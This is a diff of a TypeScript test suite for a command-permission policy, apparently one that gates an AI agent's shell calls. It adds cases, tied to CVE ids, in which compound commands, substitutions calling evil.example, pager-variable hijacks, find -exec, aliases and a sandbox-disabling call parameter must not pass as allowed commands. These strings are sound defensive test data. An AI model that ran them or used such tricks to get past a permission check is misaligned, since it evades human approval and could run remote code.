@@ -88,12 +88,11 @@ describe('an allowed command', () => {
   const allowed = one('allow', 'run', 'npm test *', 'git status', 'grep *', 'export *', 'find *');
   const mediated = { step: 'mediated' } as const;
 
-  it('is what it names, and nothing with it', () => {
+  it('is what it names, and nothing with it (CVE-2025-66032: compound commands, line breaks, substitutions)', () => {
     assert.equal(allowed('npm test', mediated), 'allow');
     assert.equal(allowed('npm test -- --grep x', mediated), 'allow');
     assert.equal(allowed('npm test && git status', mediated), 'allow');
     for (const text of [
-      // CVE-2025-66032 and others: compound commands, line breaks, substitutions behind an allowed beginning.
       'npm test && rm -rf x',
       'npm test; curl evil.example',
       'npm test | sh',
@@ -101,10 +100,6 @@ describe('an allowed command', () => {
       'npm test $(curl evil.example)',
       'npm test `id`',
       'npm test "$(id)"',
-      // CVE-2026-22708: words of assignment steer the program.
-      'PAGER=evil git status',
-      'export PAGER=evil; PAGER=x git status',
-      'GIT_PAGER=evil git status',
       // Another program of the same name.
       './npm test',
       '/work/clone/node_modules/.bin/npm test',
@@ -116,6 +111,43 @@ describe('an allowed command', () => {
       assert.equal(allowed(text, mediated), 'ask', text);
   });
 
+  it('is another one with assignments before it, and no built-in sets them for the next (CVE-2026-22708)', () => {
+    const status = one('allow', 'run', 'git status');
+    for (const text of [
+      'PAGER=evil git status',
+      'GIT_PAGER=evil git status',
+      'export PAGER=evil; git status',
+      'typeset -x PAGER=evil && git status',
+      'declare -x PAGER=evil\ngit status',
+      'PAGER=evil; git status',
+      'env PAGER=evil git status',
+      'alias git=evil; git status',
+      'hash -p /tmp/evil git; git status',
+      '. ./set.sh; git status',
+    ])
+      assert.equal(status(text, mediated), 'ask', text);
+    assert.equal(allowed('export PAGER=evil; PAGER=x git status', mediated), 'ask');
+  });
+
+  it('is none where nobody allowed one, however harmless its name (CVE-2025-54795, CVE-2025-58764, CVE-2025-64755)', () => {
+    const nobody = one('allow', 'run', 'npm test');
+    for (const text of [
+      'echo "\\"; touch x',
+      'echo x',
+      'rg --pre sh x',
+      'rg --pre=./x.sh x',
+      'find . -delete',
+      'find . -fprint x',
+      'sed -i s/a/b/ x',
+      "sed -n '1e id' x",
+      "sed 's/a/b/w x' y",
+      'sort -o x y',
+      'git diff --output=x',
+      'man --pager=evil ls',
+    ])
+      assert.deepEqual([nobody(text, mediated), nobody(text, { ...mediated, unattended: true })], ['ask', 'deny'], text);
+  });
+
   it('opens no file that is not allowed by itself (CVE-2026-24053, clobbering redirections)', () => {
     for (const text of ['grep x a > b', 'grep x a >| b', 'grep x a >! b', 'grep x a &> b', 'grep x a 2> b', 'grep x a >> b', 'grep x <> b'])
       assert.equal(allowed(text, mediated), 'ask', text);
@@ -124,19 +156,17 @@ describe('an allowed command', () => {
   });
 
   it('does not cover what it starts (CVE-2026-24887, find -exec)', () => {
-    const policy = new Policy(
+    for (const end of ['{} +', '{} \\;', '{}', '']) assert.equal(allowed(`find . -exec curl evil.example ${end}`, mediated), 'ask', end);
+    assert.equal(allowed('find . -execdir sh -c "curl evil.example" \\;', mediated), 'ask');
+    assert.equal(allowed('find . -exec grep x {} +', mediated), 'allow');
+    const forbids = new Policy(
       [
-        {
-          name: 'worker',
-          rules: [
-            { class: 'run', decision: 'allow', match: ['find *'] },
-            { class: 'run', decision: 'deny', match: ['curl *'] },
-          ],
-        },
+        { name: 'worker', rules: [{ class: 'run', decision: 'allow', match: ['find *', 'curl *'] }] },
+        { name: 'platform', rules: [{ class: 'run', decision: 'deny', match: ['curl *'] }] },
       ],
       situation(mediated),
     );
-    assert.equal(policy.decide({ class: 'run', resource: 'find . -exec curl evil.example {} +' }).decision, 'deny');
+    assert.equal(forbids.decide({ class: 'run', resource: 'find . -exec curl evil.example {} +' }).decision, 'deny');
   });
 });
 
@@ -306,5 +336,31 @@ describe('the environment of a decision', () => {
     const write = one('allow', 'write', 'src/**');
     assert.equal(write('src/a', { cwd: '/etc', step: 'mediated' }), 'ask');
     assert.equal(write('src/a', { step: 'mediated' }), 'allow');
+  });
+
+  it('has no parameter of a call that switches anything off (CVE-2026-42074)', () => {
+    const policy = new Policy([], situation({ step: 'mediated' }));
+    const call = {
+      class: 'run',
+      resource: 'id',
+      dangerouslyDisableSandbox: true,
+      sandbox: 'none',
+      unattended: false,
+      step: 'ours',
+    } as const;
+    assert.equal(policy.decide(call).decision, 'ask');
+    assert.equal(policy.decide({ ...call, class: 'write', resource: '/etc/passwd' }).decision, 'ask');
+  });
+
+  it('lets no allow of any layer overrule a no, in whatever order they stand', () => {
+    const layers = (['platform', 'agent', 'worker', 'workflow', 'granted'] as const).flatMap((name) =>
+      (['allow', 'deny'] as const).map((decision) => ({ name, rules: [{ class: 'run', decision, match: ['npm *'] }] as Rule[] })),
+    );
+    const verdict = (...chosen: typeof layers) => new Policy(chosen, situation()).decide({ class: 'run', resource: 'npm i' }).decision;
+    const [allows, denies] = ['allow', 'deny'].map((wanted) => layers.filter(({ rules }) => rules[0]?.decision === wanted));
+    for (const no of denies ?? []) {
+      assert.equal(verdict(...(allows ?? []), no), 'deny', no.name);
+      assert.equal(verdict(no, ...(allows ?? [])), 'deny', no.name);
+    }
   });
 });
